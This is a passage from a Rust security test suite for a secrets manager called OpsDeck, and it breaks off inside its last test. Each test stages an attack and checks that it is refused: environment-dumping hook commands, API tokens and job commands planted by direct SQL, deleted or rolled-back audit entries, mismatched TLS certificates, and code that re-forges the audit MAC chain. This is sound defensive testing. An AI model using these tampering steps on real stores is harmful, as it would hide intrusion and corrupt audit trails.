//! Attacks on OpsDeck, each a test named for the attack (docs/security.md
//! lists them with what stops each one).
//!
//! So far: a program OpsDeck starts reading the deck's own secrets from its
//! environment, and a hook's output carrying the values it was given into
//! the audit trail and error messages.

use std::path::Path;
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use opsdeck_tests::{opsdeck_command, postgres};
use serde_json::Value;

const PASSPHRASE: &str = "security-test-passphrase-7f3a";
const BUNDLE_PASSPHRASE: &str = "bundle-passphrase-91c2";
const NEW_PASSPHRASE: &str = "new-passphrase-5d80";

/// The CLI with every secret-carrying variable of ours set, plus one of the user's own.
fn cli(dir: &Path, database_url: &str, args: &[&str], stdin: Option<&str>) -> Output {
    let mut command = opsdeck_command();
    command
        .arg("--data-dir")
        .arg(dir)
        .args(args)
        .env("OPSDECK_PASSPHRASE", PASSPHRASE)
        .env("OPSDECK_BUNDLE_PASSPHRASE", BUNDLE_PASSPHRASE)
        .env("OPSDECK_NEW_PASSPHRASE", NEW_PASSPHRASE)
        .env("OPSDECK_DATABASE_URL", database_url)
        .env("MY_OWN_SETTING", "kept-for-my-program")
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    if let Some(text) = stdin {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    }
    drop(child.stdin.take());
    child.wait_with_output().unwrap()
}

fn ok(dir: &Path, database_url: &str, args: &[&str], stdin: Option<&str>) -> Value {
    let output = cli(dir, database_url, &[&["--json"], args].concat(), stdin);
    assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap_or(Value::Null)
}

/// Asserts that `text` (a child's environment or output) holds none of the deck's secrets.
fn assert_no_deck_secrets(text: &str, database_url: &str, what: &str) {
    for secret in [PASSPHRASE, BUNDLE_PASSPHRASE, NEW_PASSPHRASE] {
        assert!(!text.contains(secret), "{what} saw a deck passphrase:\n{text}");
    }
    for name in
        ["OPSDECK_PASSPHRASE", "OPSDECK_BUNDLE_PASSPHRASE", "OPSDECK_NEW_PASSPHRASE", "OPSDECK_DATABASE_URL"]
    {
        assert!(!text.contains(&format!("{name}=")), "{what} inherited {name}:\n{text}");
    }
    if !database_url.is_empty() {
        assert!(!text.contains(database_url), "{what} saw the database URL:\n{text}");
    }
}

#[test]
fn a_program_started_by_opsdeck_run_cannot_read_the_deck_passphrase_or_the_database_url() {
    let dir = tempfile::tempdir().unwrap();
    let database_url = postgres::shared().fresh_database();
    ok(dir.path(), &database_url, &["vault", "init", "prod", "--no-keychain"], None);
    ok(
        dir.path(),
        &database_url,
        &["secret", "set", "prod/db", "--type", "database_password", "--value-stdin"],
        Some("db-pass-4411"),
    );
    let output =
        cli(dir.path(), &database_url, &["run", "--env", "DB_PASSWORD=opsdeck://prod/db", "--", "env"], None);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let environment = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_no_deck_secrets(&environment, &database_url, "the program");
    // What it was meant to get, it got: the one secret asked for, and the user's own settings.
    assert!(environment.contains("DB_PASSWORD=db-pass-4411"), "{environment}");
    assert!(environment.contains("MY_OWN_SETTING=kept-for-my-program"), "{environment}");
}

#[test]
fn a_verification_command_sees_only_the_values_it_checks_and_its_output_never_reaches_the_audit_trail() {
    let dir = tempfile::tempdir().unwrap();
    let seen = dir.path().join("verify-env.txt");
    ok(dir.path(), "", &["vault", "init", "prod", "--no-keychain"], None);
    ok(
        dir.path(),
        "",
        &["secret", "set", "prod/api", "--type", "api_key", "--value-stdin"],
        Some("old-value-8c1e"),
    );
    // A verification command that dumps its environment and echoes both values, then fails.
    let verify = format!(
        "env > {}; echo \"new=$OPSDECK_NEW_VALUE old=$OPSDECK_OLD_VALUE\" >&2; exit 1",
        seen.display()
    );
    let output = cli(dir.path(), "", &["secret", "rotate", "prod/api", "--verify", &verify], None);
    let said =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(said.contains("new=[redacted] old=[redacted]"), "{said}");
    assert!(!said.contains("old-value-8c1e"), "the old value was printed: {said}");

    let environment = std::fs::read_to_string(&seen).unwrap();
    assert_no_deck_secrets(&environment, "", "the verification command");
    assert!(
        environment.contains("OPSDECK_OLD_VALUE=old-value-8c1e"),
        "it gets the values it checks: {environment}"
    );
    assert!(!environment.contains("MY_OWN_SETTING"), "a hook gets a minimal environment: {environment}");
    assert!(environment.contains("PATH="), "{environment}");

    // The trail keeps what happened, never the values.
    let audit = ok(dir.path(), "", &["audit", "log", "--limit", "50"], None).to_string();
    assert!(audit.contains("secret.rotate"), "{audit}");
    assert!(!audit.contains("old-value-8c1e"), "the audit trail holds the old value: {audit}");
    let new_value =
        ok(dir.path(), "", &["secret", "get", "prod/api"], None)["value"].as_str().unwrap().to_owned();
    assert_eq!(new_value, "old-value-8c1e", "a failed verification keeps the old value");
}

#[test]
fn reload_hooks_and_command_jobs_run_without_the_deck_secrets() {
    let dir = tempfile::tempdir().unwrap();
    let reload_env = dir.path().join("reload-env.txt");
    let job_env = dir.path().join("job-env.txt");
    ok(dir.path(), "", &["config", "set", "shop", "dev", "port", "8080"], None);
    ok(
        dir.path(),
        "",
        &["config", "reload", "shop", "dev", "--command", &format!("env > {}", reload_env.display())],
        None,
    );
    ok(dir.path(), "", &["config", "set", "shop", "dev", "port", "8081"], None);
    let environment = std::fs::read_to_string(&reload_env).unwrap();
    assert_no_deck_secrets(&environment, "", "the reload hook");
    assert!(environment.contains("OPSDECK_CONFIG_VERSION=2"), "{environment}");
    assert!(!environment.contains("MY_OWN_SETTING"), "{environment}");

    ok(
        dir.path(),
        "",
        &["jobs", "add", "dump", "--every", "1h", "--command", &format!("env > {}", job_env.display())],
        None,
    );
    ok(dir.path(), "", &["jobs", "run", "dump"], None);
    let data_dir = dir.path().display().to_string();
    let binary = opsdeck_tests::binaries::opsdeck_binary().display().to_string();
    let mut serve = opsdeck_tests::process::spawn_tied_to_this_process(
        &binary,
        &["--data-dir", &data_dir, "serve", "--otlp-grpc", "off", "--otlp-http", "off"],
        &[
            ("OPSDECK_PASSPHRASE", PASSPHRASE),
            ("OPSDECK_BUNDLE_PASSPHRASE", BUNDLE_PASSPHRASE),
            ("MY_OWN_SETTING", "kept-for-my-program"),
            ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent"),
        ],
        "TERM",
        None,
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    while !job_env.exists() || std::fs::read_to_string(&job_env).unwrap().is_empty() {
        assert!(Instant::now() < deadline, "the job did not run");
        std::thread::sleep(Duration::from_millis(200));
    }
    std::thread::sleep(Duration::from_millis(200));
    opsdeck_tests::process::stop(&mut serve);
    let environment = std::fs::read_to_string(&job_env).unwrap();
    assert_no_deck_secrets(&environment, "", "the job");
    assert!(environment.contains("OPSDECK_JOB=dump"), "{environment}");
    assert!(!environment.contains("MY_OWN_SETTING"), "{environment}");
}

#[test]
fn a_webhook_target_cannot_send_signed_events_unencrypted_across_the_network() {
    let dir = tempfile::tempdir().unwrap();
    let refused =
        cli(dir.path(), "", &["notify", "add", "ops", "--url", "http://hooks.example.com/opsdeck"], None);
    assert_eq!(refused.status.code(), Some(2));
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("use https://"), "{said}");
    assert_eq!(ok(dir.path(), "", &["notify", "list"], None), serde_json::json!([]), "nothing was added");
    // https anywhere, and http to this machine only, are accepted.
    ok(dir.path(), "", &["notify", "add", "ops", "--url", "https://hooks.example.com/opsdeck"], None);
    ok(dir.path(), "", &["notify", "add", "local", "--url", "http://127.0.0.1:9/hook"], None);
    ok(dir.path(), "", &["notify", "add", "local6", "--url", "http://[::1]:9/hook"], None);
    ok(dir.path(), "", &["notify", "add", "named", "--url", "http://localhost:9/hook"], None);
}

/// The account name of this process's real user id, as `id -un` prints it.
fn os_user() -> String {
    let output = std::process::Command::new("id").arg("-un").output().unwrap();
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

#[test]
fn a_member_cannot_act_under_another_name_by_setting_user_logname_or_home() {
    let dir = tempfile::tempdir().unwrap();
    let claim = |command: &mut std::process::Command| {
        command.env("USER", "mallory").env("LOGNAME", "mallory").env("USERNAME", "mallory");
        command.env("HOME", "/home/mallory");
    };
    let mut command = opsdeck_command();
    command.arg("--data-dir").arg(dir.path()).args(["--json", "vault", "init", "prod", "--no-keychain"]);
    command.env("OPSDECK_PASSPHRASE", PASSPHRASE).env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent");
    claim(&mut command);
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));

    let entries = ok(dir.path(), "", &["audit", "log"], None);
    let actors: Vec<&str> = entries.as_array().unwrap().iter().filter_map(|e| e["actor"].as_str()).collect();
    assert_eq!(actors, [format!("cli:{}", os_user())], "the vault's creator is the OS user");
    let members = ok(dir.path(), "", &["vault", "member", "list", "prod"], None);
    assert_eq!(members[0]["member"], os_user(), "{members}");
}

#[test]
fn only_the_superuser_may_act_as_another_member_and_the_trail_says_so() {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), "", &["vault", "init", "prod", "--no-keychain"], None);
    let superuser = os_user() == "root";

    // Someone who is not the superuser is refused outright.
    let output = if superuser {
        // Play an ordinary account: `nobody`, running a copy of the binary
        // in a directory it may use.
        let shared = tempfile::tempdir().unwrap();
        let binary = shared.path().join("opsdeck");
        std::fs::copy(opsdeck_tests::opsdeck_binary(), &binary).unwrap();
        let data = shared.path().join("data");
        std::fs::create_dir(&data).unwrap();
        for path in [shared.path(), data.as_path()] {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        std::process::Command::new("setpriv")
            .args(["--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"])
            .arg(&binary)
            .arg("--data-dir")
            .arg(&data)
            .args(["vault", "init", "mine", "--no-keychain"])
            .env("OPSDECK_PASSPHRASE", PASSPHRASE)
            .env("OPSDECK_ACT_AS", "alice")
            .env("HOME", shared.path())
            .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
            .output()
            .unwrap()
    } else {
        let mut command = opsdeck_command();
        command.arg("--data-dir").arg(dir.path()).args(["vault", "init", "mine", "--no-keychain"]);
        command.env("OPSDECK_PASSPHRASE", PASSPHRASE).env("OPSDECK_ACT_AS", "alice");
        command.output().unwrap()
    };
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("OPSDECK_ACT_AS is honoured only for the system's superuser"), "{stderr}");

    if superuser {
        // The superuser may, and every entry names who took the identity on.
        let mut command = opsdeck_command();
        command.arg("--data-dir").arg(dir.path()).args(["--json", "secret", "list", "prod"]);
        command.env("OPSDECK_PASSPHRASE", PASSPHRASE).env("OPSDECK_ACT_AS", "alice");
        command.env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent");
        assert_eq!(command.output().unwrap().status.code(), Some(2), "alice is no member of prod");
        let entries = ok(dir.path(), "", &["audit", "log", "--limit", "1"], None);
        assert_eq!(entries[0]["actor"], "cli:alice (assumed by root)", "{entries}");
        assert_eq!(entries[0]["outcome"], "denied", "{entries}");
    }
}

/// Runs `sql` on the SQLite store in `dir` (as someone who can write the file).
fn sqlite(dir: &Path, sql: &str) -> String {
    let output = std::process::Command::new("python3")
        .arg("-c")
        .arg(format!(
            "import sqlite3; c = sqlite3.connect('{}'); r = c.execute(\"\"\"{sql}\"\"\").fetchall(); c.commit(); print(r)",
            dir.join("opsdeck.db").display()
        ))
        .output()
        .unwrap();
    assert!(output.status.success(), "{sql}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// `GET` on the API at `address` with `token`: (status, body).
fn api_get(address: &str, path: &str, token: &str) -> (u16, String) {
    let output = std::process::Command::new("python3")
        .arg("-c")
        .arg(
            "import sys, urllib.request, urllib.error\n\
             r = urllib.request.Request(sys.argv[1], headers={'Authorization': 'Bearer ' + sys.argv[2]})\n\
             try:\n    a = urllib.request.urlopen(r, timeout=30); print(a.status); print(a.read().decode())\n\
             except urllib.error.HTTPError as e:\n    print(e.code); print(e.read().decode())\n",
        )
        .arg(format!("http://{address}{path}"))
        .arg(token)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let (status, body) = text.split_once('\n').unwrap_or(("0", ""));
    (status.trim().parse().unwrap_or(0), body.to_owned())
}

#[test]
fn an_api_token_planted_or_widened_in_the_store_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    ok(path, "", &["vault", "init", "prod", "--no-keychain"], None);
    let viewer = ok(path, "", &["api", "token", "create", "--name", "ci", "--role", "viewer"], None)["token"]
        .as_str()
        .unwrap()
        .to_owned();
    // Widen the viewer token to an admin that may reveal, and plant a second
    // token whose hash the attacker knows.
    sqlite(path, "UPDATE api_tokens SET role = 'admin', reveal = 1 WHERE name = 'ci'");
    let planted = "odk_planted-by-someone-who-can-write-the-database";
    let planted_hash = hex_of(&<sha2::Sha256 as sha2::Digest>::digest(planted.as_bytes()));
    sqlite(
        path,
        &format!(
            "INSERT INTO api_tokens (name, token_hash, role, vault, reveal, created_by, created_at_unix_ms) \
             VALUES ('evil', '{planted_hash}', 'admin', NULL, 1, 'cli:root', 0)"
        ),
    );
    let mut serve = opsdeck_tests::deck_api::ApiServer::start(path, PASSPHRASE);
    let address = serve.address.clone();
    let widened = api_get(&address, "/v1/api/tokens", &viewer);
    let planted_answer = api_get(&address, "/v1/vaults", planted);
    serve.stop();
    assert_eq!(widened.0, 401, "a widened token was honoured: {widened:?}");
    assert!(widened.1.contains("was refused"), "{widened:?}");
    assert_eq!(planted_answer.0, 401, "a planted token was honoured: {planted_answer:?}");
    let refused = ok(path, "", &["audit", "log", "--action", "definition.refused"], None);
    assert!(refused.as_array().unwrap().len() >= 2, "{refused}");
}

#[test]
fn a_change_whose_audit_entry_cannot_be_written_is_not_stored() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    ok(path, "", &["vault", "init", "prod", "--no-keychain"], None);
    ok(path, "", &["secret", "set", "prod/db", "--type", "database_password", "--value-stdin"], Some("v1"));
    ok(path, "", &["secret", "set", "prod/db", "--type", "database_password", "--value-stdin"], Some("v2"));
    ok(path, "", &["vault", "member", "set", "prod", "bob", "viewer"], None);
    let state = || {
        sqlite(
            path,
            "SELECT (SELECT COUNT(*) FROM secret_versions), (SELECT group_concat(current_version) FROM secrets), \
             (SELECT group_concat(member || ':' || role) FROM vault_members), (SELECT COUNT(*) FROM vault_slots), \
             (SELECT group_concat(tags) FROM secrets)",
        )
    };
    let before = state();

    // Someone with write access to the store cuts the trail's newest entry:
    // appending now fails (the head names an entry that is gone).
    let last = ok(path, "", &["audit", "log", "--limit", "1"], None)[0]["seq"].as_i64().unwrap();
    sqlite(path, &format!("DELETE FROM audit_log WHERE seq = {last}"));

    let env_file = path.join("more.env");
    std::fs::write(&env_file, "NEW_ONE=1\n").unwrap();
    let attempts: [(&[&str], Option<&str>); 7] = [
        (&["secret", "set", "prod/db", "--type", "database_password", "--value-stdin"], Some("v3")),
        (&["secret", "rollback", "prod/db", "--to", "1"], None),
        (&["secret", "edit", "prod/db", "--tag", "team:core"], None),
        (&["secret", "import", "prod", env_file.to_str().unwrap()], None),
        (&["vault", "member", "set", "prod", "carol", "operator"], None),
        (&["vault", "member", "rm", "prod", "bob"], None),
        (&["secret", "rm", "prod/db"], None),
    ];
    for (args, stdin) in attempts {
        let output = cli(path, "", args, stdin);
        assert_eq!(output.status.code(), Some(2), "{args:?} went through without its audit entry");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("audit"), "{args:?}: {stderr}");
        assert_eq!(state(), before, "{args:?} changed the store without its audit entry");
    }
}

#[test]
fn a_postgresql_server_with_a_certificate_from_another_ca_or_for_another_name_is_refused() {
    use opsdeck_tests::pebble::make_pki_for;
    let pki = tempfile::tempdir().unwrap();
    make_pki_for(pki.path(), "DNS:localhost");
    let stranger = tempfile::tempdir().unwrap();
    make_pki_for(stranger.path(), "DNS:localhost");
    let server = opsdeck_tests::PostgresServer::start_with_tls(pki.path());
    let database = server.fresh_database();
    let name = database.rsplit('/').next().unwrap();
    let url = |host: &str, sslmode: &str, ca: &Path| {
        format!(
            "postgres://postgres@{host}:{}/{name}?sslmode={sslmode}&sslrootcert={}",
            server.port(),
            ca.join("ca.pem").display()
        )
    };
    let dir = tempfile::tempdir().unwrap();

    // The server proves its name with a certificate from the CA we were given.
    let status = ok(dir.path(), &url("localhost", "verify-full", pki.path()), &["status"], None);
    assert_eq!(status["store"], "postgres", "{status}");

    // A server whose certificate comes from another CA (someone in the middle).
    let output = cli(dir.path(), &url("localhost", "verify-full", stranger.path()), &["status"], None);
    assert_eq!(output.status.code(), Some(2));
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(
        said.contains("not signed by a CA this machine trusts") && said.contains("sslrootcert"),
        "{said}"
    );

    // A certificate valid for another name than the one we connect to.
    let output = cli(dir.path(), &url("127.0.0.1", "verify-full", pki.path()), &["status"], None);
    assert_eq!(output.status.code(), Some(2));
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("not valid for the host name"), "{said}");

    // verify-ca is no weaker here: the name is checked as well (see
    // `with_default_sslmode` in crates/core/src/store.rs).
    ok(dir.path(), &url("localhost", "verify-ca", pki.path()), &["status"], None);
    let output = cli(dir.path(), &url("localhost", "verify-ca", stranger.path()), &["status"], None);
    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
}

/// `opsdeck audit verify --json` in `dir`: its exit code and report.
fn audit_verify(dir: &Path) -> (Option<i32>, Value, String) {
    let output = cli(dir, "", &["--json", "audit", "verify"], None);
    let report = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    (output.status.code(), report, String::from_utf8_lossy(&output.stderr).into_owned())
}

/// A store with a few audited changes, its trail checked once.
fn store_with_a_trail() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), "", &["vault", "init", "prod", "--no-keychain"], None);
    for value in ["v1", "v2", "v3"] {
        ok(
            dir.path(),
            "",
            &["secret", "set", "prod/db", "--type", "database_password", "--value-stdin"],
            Some(value),
        );
    }
    let (code, report, stderr) = audit_verify(dir.path());
    assert_eq!(code, Some(0), "{report} {stderr}");
    dir
}

#[test]
fn wiping_every_audit_entry_and_the_head_record_is_found() {
    let dir = store_with_a_trail();
    sqlite(dir.path(), "DELETE FROM audit_log");
    sqlite(dir.path(), "DELETE FROM store_meta WHERE key = 'audit_head'");
    let (code, report, stderr) = audit_verify(dir.path());
    assert_eq!(code, Some(1), "an empty trail that once had entries verified: {report} {stderr}");
    assert!(report["problem"].as_str().unwrap().contains("wiped"), "{report}");
    // Nothing audited happens on it until someone looks.
    let output = cli(dir.path(), "", &["secret", "get", "prod/db"], None);
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
}

#[test]
fn restoring_an_older_copy_of_the_store_in_place_is_found_until_it_is_accepted_on_purpose() {
    let dir = store_with_a_trail();
    let db = dir.path().join("opsdeck.db");
    let copy = dir.path().join("older.db");
    let backup = |from: &Path, to: &Path| {
        let status = std::process::Command::new("python3")
            .arg("-c")
            .arg(format!(
                "import sqlite3; s = sqlite3.connect('{}'); d = sqlite3.connect('{}'); s.backup(d); d.close()",
                from.display(),
                to.display()
            ))
            .status()
            .unwrap();
        assert!(status.success());
    };
    backup(&db, &copy);
    // Later changes, among them one that should stay on record.
    ok(
        dir.path(),
        "",
        &["secret", "set", "prod/db", "--type", "database_password", "--value-stdin"],
        Some("v4"),
    );
    ok(dir.path(), "", &["vault", "member", "set", "prod", "mallory", "admin"], None);
    // Someone puts the older copy back in place: the trail is whole in itself.
    backup(&copy, &db);

    let (code, report, _) = audit_verify(dir.path());
    assert_eq!(code, Some(1), "{report}");
    let problem = report["problem"].as_str().unwrap();
    assert!(problem.contains("rolled back") && problem.contains("restored in place"), "{problem}");
    let output = cli(dir.path(), "", &["secret", "set", "prod/db", "--value-stdin"], Some("v5"));
    assert_eq!(output.status.code(), Some(2), "a change was recorded on a rolled-back trail");

    // A restore on purpose is accepted, and the trail says so.
    let entry = ok(dir.path(), "", &["audit", "reanchor"], None);
    assert_eq!(entry["action"], "audit.reanchor");
    assert!(
        entry["details"]["checkpoint_was"].as_i64().unwrap() > entry["seq"].as_i64().unwrap() - 2,
        "{entry}"
    );
    assert_eq!(audit_verify(dir.path()).0, Some(0));
}

#[test]
fn an_older_copy_restored_where_no_checkpoint_is_kept_is_found_with_one_sent_to_a_webhook() {
    use opsdeck_tests::http_server::{Scripted, ScriptedServer};
    let dir = store_with_a_trail();
    let older = tempfile::tempdir().unwrap();
    let status = std::process::Command::new("python3")
        .arg("-c")
        .arg(format!(
            "import sqlite3; s = sqlite3.connect('{}'); d = sqlite3.connect('{}'); s.backup(d); d.close()",
            dir.path().join("opsdeck.db").display(),
            older.path().join("opsdeck.db").display()
        ))
        .status()
        .unwrap();
    assert!(status.success());
    ok(dir.path(), "", &["vault", "member", "set", "prod", "mallory", "admin"], None);

    // A checkpoint leaves on a schedule, signed, for a receiver to keep.
    let receiver = ScriptedServer::start(vec![Scripted::status(200); 4]);
    ok(dir.path(), "", &["notify", "add", "ledger", "--url", &receiver.url("/checkpoints")], None);
    let scheduled = ok(dir.path(), "", &["audit", "checkpoint", "--send", "ledger", "--every", "1h"], None);
    assert_eq!(scheduled["job"], "audit-checkpoint-ledger");
    serve_until(dir.path(), "a scheduled checkpoint", || !receiver.received().is_empty());
    let delivery = receiver.received().remove(0);
    let body: Value = serde_json::from_slice(&delivery.body).unwrap();
    assert_eq!(body["event"], "audit.checkpoint", "{body}");
    assert!(body["data"]["seq"].as_i64().unwrap() >= 6, "{body}");
    let kept = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(kept.path(), &delivery.body).unwrap();
    let checkpoint = kept.path().to_str().unwrap();
    let verify_with = |data_dir: &Path, file: &str| {
        let output = cli(data_dir, "", &["--json", "audit", "verify", "--checkpoint", file], None);
        let report: Value = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
        (output.status.code(), report, String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let (code, report, stderr) = verify_with(dir.path(), checkpoint);
    assert_eq!(code, Some(0), "{report} {stderr}");

    // The older copy, opened where this machine's own checkpoint is not (a new
    // data dir, the key part carried over): whole in itself, but not the trail
    // the checkpoint vouches for.
    std::fs::create_dir_all(older.path().join("keys")).unwrap();
    for part in std::fs::read_dir(dir.path().join("keys")).unwrap() {
        let part = part.unwrap();
        std::fs::copy(part.path(), older.path().join("keys").join(part.file_name())).unwrap();
    }
    assert_eq!(audit_verify(older.path()).0, Some(0), "without a checkpoint the copy looks whole");
    let (code, report, _) = verify_with(older.path(), checkpoint);
    assert_eq!(code, Some(1), "{report}");
    let problem = report["problem"].as_str().unwrap();
    assert!(problem.contains("vouches for"), "{problem}");

    // A checkpoint changed by hand is refused, not trusted.
    let mut forged = body["data"].clone();
    forged["seq"] = serde_json::json!(3);
    std::fs::write(kept.path(), forged.to_string()).unwrap();
    let (code, report, _) = verify_with(older.path(), checkpoint);
    assert_eq!(code, Some(1), "{report}");
    assert!(report["problem"].as_str().unwrap().contains("edited or forged"), "{report}");
}

#[test]
fn deleting_the_audit_key_record_never_makes_a_new_key_over_the_chain() {
    let dir = store_with_a_trail();
    sqlite(dir.path(), "DELETE FROM deck_keys WHERE name = 'audit'");
    let output = cli(dir.path(), "", &["--json", "audit", "verify"], None);
    assert_eq!(output.status.code(), Some(2));
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("no record of its `audit` key") && said.contains("restore"), "{said}");
    assert_eq!(sqlite(dir.path(), "SELECT COUNT(*) FROM deck_keys WHERE name = 'audit'").trim(), "[(0,)]");
}

#[test]
fn rewriting_the_chain_with_the_vault_passphrase_is_found() {
    use opsdeck_core::keys::{derive_from_passphrase, mac_of};
    use sqlx::{Connection, Row};
    let dir = store_with_a_trail();
    // The attacker has the store and the passphrase every member of a
    // passphrase vault knows (not this machine's data dir): they derive the
    // key as a passphrase-only deck would and rewrite entry 2 and everything after.
    let url = format!("sqlite://{}", dir.path().join("opsdeck.db").display());
    tokio::runtime::Runtime::new().unwrap().block_on(async {
        let mut db = sqlx::SqliteConnection::connect(&url).await.unwrap();
        let store_id: String = sqlx::query_scalar("SELECT value FROM store_meta WHERE key = 'store_id'")
            .fetch_one(&mut db)
            .await
            .unwrap();
        let (salt, params): (Vec<u8>, String) =
            sqlx::query_as("SELECT kdf_salt, kdf_params FROM deck_keys WHERE name = 'audit'")
                .fetch_one(&mut db)
                .await
                .unwrap();
        let key = derive_from_passphrase(PASSPHRASE, &salt, &params).unwrap();
        sqlx::query("UPDATE audit_log SET actor = 'cli:someone-else' WHERE seq = 2").execute(&mut db).await.unwrap();
        let rows = sqlx::query("SELECT seq, at_unix_ms, actor, action, target, outcome, details, correlation_id FROM audit_log ORDER BY seq")
            .fetch_all(&mut db)
            .await
            .unwrap();
        let mut previous = mac_of(&key, &[b"audit genesis", store_id.as_bytes()]).to_vec();
        let mut last = (0_i64, Vec::new());
        for row in rows {
            let seq: i64 = row.get(0);
            let at: i64 = row.get(1);
            let texts: Vec<String> = (2..8).map(|i| row.get::<String, _>(i)).collect();
            let (seq_bytes, at_bytes) = (seq.to_be_bytes(), at.to_be_bytes());
            let mut parts: Vec<&[u8]> = vec![&seq_bytes, &at_bytes];
            parts.extend(texts.iter().map(|text| text.as_bytes()));
            parts.push(&previous);
            let mac = mac_of(&key, &parts).to_vec();
            sqlx::query("UPDATE audit_log SET prev_mac = $1, mac = $2 WHERE seq = $3")
                .bind(&previous)
                .bind(&mac)
                .bind(seq)
                .execute(&mut db)
                .await
                .unwrap();
            previous = mac.clone();
            last = (seq, mac);
        }
        let head_mac = mac_of(&key, &[b"audit head", &last.0.to_be_bytes(), &last.1]);
        let head = format!("{}:{}:{}", last.0, hex_of(&last.1), hex_of(&head_mac));
        sqlx::query("UPDATE store_meta SET value = $1 WHERE key = 'audit_head'").bind(head).execute(&mut db).await.unwrap();
    });
    // Even without this machine's checkpoint, the rewritten chain fails.
    std::fs::remove_dir_all(dir.path().join("audit-anchors")).unwrap();
    let (code, report, stderr) = audit_verify(dir.path());
    assert_eq!(code, Some(1), "a chain rewritten with the passphrase verified: {report} {stderr}");
    assert_eq!(report["first_bad"], 1, "{report}");
}

fn hex_of(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Runs `opsdeck serve` on `dir` until `done` says so (at most 30 s).
fn serve_until(dir: &Path, what: &str, mut done: impl FnMut() -> bool) {
    let data_dir = dir.display().to_string();
    let binary = opsdeck_tests::binaries::opsdeck_binary().display().to_string();
    let mut serve = opsdeck_tests::process::spawn_tied_to_this_process(
        &binary,
        &["--data-dir", &data_dir, "serve", "--otlp-grpc", "off", "--otlp-http", "off"],
        &[("OPSDECK_PASSPHRASE", PASSPHRASE), ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")],
        "TERM",
        None,
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    while !done() {
        assert!(Instant::now() < deadline, "{what} did not happen");
        std::thread::sleep(Duration::from_millis(200));
    }
    opsdeck_tests::process::stop(&mut serve);
}

/// How many runs of job `name` have ended (not still running).
fn finished_runs(dir: &Path, name: &str) -> usize {
    job_runs(dir, name).iter().filter(|run| !run["finished_at_unix_ms"].is_null()).count()
}

/// The newest runs of job `name`.
fn job_runs(dir: &Path, name: &str) -> Vec<Value> {
    ok(dir, "", &["jobs", "runs", name], None).as_array().cloned().unwrap_or_default()
}

#[test]
fn a_command_job_changed_or_planted_in_the_store_is_refused_not_run() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path();
    let planted = path.join("planted-ran");
    let honest = path.join("honest-ran");
    ok(
        path,
        "",
        &["jobs", "add", "backup", "--every", "1h", "--command", &format!("touch {}", honest.display())],
        None,
    );
    // Someone who can write the store changes the command, and adds a job of their own.
    let evil = format!("{{\"command\":\"touch {}\"}}", planted.display());
    sqlite(path, &format!("UPDATE jobs SET payload = '{evil}' WHERE name = 'backup'"));
    sqlite(
        path,
        &format!(
            "INSERT INTO jobs (name, kind, every_ms, cron, payload, paused, next_run_at_unix_ms, due_at_unix_ms, attempt, created_at_unix_ms) \
             SELECT 'cleanup', kind, every_ms, cron, '{evil}', 0, 0, 0, 0, created_at_unix_ms FROM jobs WHERE name = 'backup'"
        ),
    );
    ok(path, "", &["jobs", "run", "backup"], None);
    serve_until(path, "both refusals", || {
        finished_runs(path, "backup") >= 1 && finished_runs(path, "cleanup") >= 1
    });
    assert!(!planted.exists(), "a command that was never sealed ran");
    assert!(!honest.exists(), "the changed job ran");
    let backup = &job_runs(path, "backup")[0];
    assert_eq!(backup["outcome"], "failed", "{backup}");
    assert!(
        backup["message"].as_str().unwrap().contains("changed in the store without OpsDeck's key"),
        "{backup}"
    );
    let cleanup = &job_runs(path, "cleanup")[0];
    assert!(cleanup["message"].as_str().unwrap().contains("has no seal"), "{cleanup}");
    let refused = ok(path, "", &["audit", "log", "--action", "definition.refused"], None);
    let targets: Vec<&str> =
        refused.as_array().unwrap().iter().filter_map(|e| e["target"].as_str()).collect();
    assert!(targets.contains(&"job.command backup") && targets.contains(&"job.command cleanup"), "{refused}");

